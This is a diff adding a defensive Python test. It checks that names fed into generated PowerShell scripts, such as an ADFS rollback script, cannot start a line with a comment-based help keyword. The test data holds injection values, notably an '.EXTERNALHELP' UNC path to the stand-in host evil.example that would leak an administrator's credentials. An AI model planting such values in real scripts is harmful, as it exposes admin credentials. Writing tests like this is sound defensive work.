@@ -3,6 +3,7 @@ cell, is shown as it is, and nothing an editor or a viewer reads differently sli
 from __future__ import annotations
 
 import json
+import re
 
 from django.urls import reverse
 
@@ -116,3 +117,29 @@ class MarkdownOutputsTests(BaseTestCase):
                     body = line.lstrip("#") if line.startswith("#") else line
                     self.assertEqual(_unescaped(body, "#"), [])
                     self.assertEqual(_unescaped(line, "~"), [])
+
+
+# Comment-based help reads a line that starts with a dot and a keyword as that keyword, wherever it stands in
+# the script's first comment block: `.EXTERNALHELP <path>` makes Get-Help load its help from that path
+# (a UNC path sends the admin's credentials there); `.NOTES` and the like move text into another section.
+HELP_KEYWORD_NAMES = (".EXTERNALHELP \\\\evil.example\\share\\help.xml", ".FORWARDHELPTARGETNAME Remove-Item",
+                      ".NOTES x")
+HELP_LINE_RE = re.compile(r"^\s*\.(EXTERNALHELP|FORWARDHELPTARGETNAME|NOTES)\b", re.IGNORECASE | re.MULTILINE)
+
+
+class CommentBasedHelpTests(BaseTestCase):
+    def test_a_name_starting_with_a_help_keyword_never_starts_a_line_of_a_scripts_help(self) -> None:
+        doc = plan_doc(S01)
+        doc["pools"][0]["relying_parties"] = {"internal": HELP_KEYWORD_NAMES[0], "external": HELP_KEYWORD_NAMES[1]}
+        doc["pools"][0]["site"] = HELP_KEYWORD_NAMES[2]
+        plan, findings = load_plan(json.dumps(doc))
+        self.assertIsNotNone(plan, [f for f in findings if f.severity == "error"])
+        built = build_bundle(plan, source=Source.for_plan(plan))
+        scripts = built.scripts
+        self.assertIn("rollback-adfs.ps1", scripts)
+        for name, text in scripts.items():
+            with self.subTest(name):
+                self.assertEqual(HELP_LINE_RE.findall(text), [])
+        # The names are still listed, whole.
+        for trust in HELP_KEYWORD_NAMES[:2]:
+            self.assertIn(trust, scripts["rollback-adfs.ps1"])
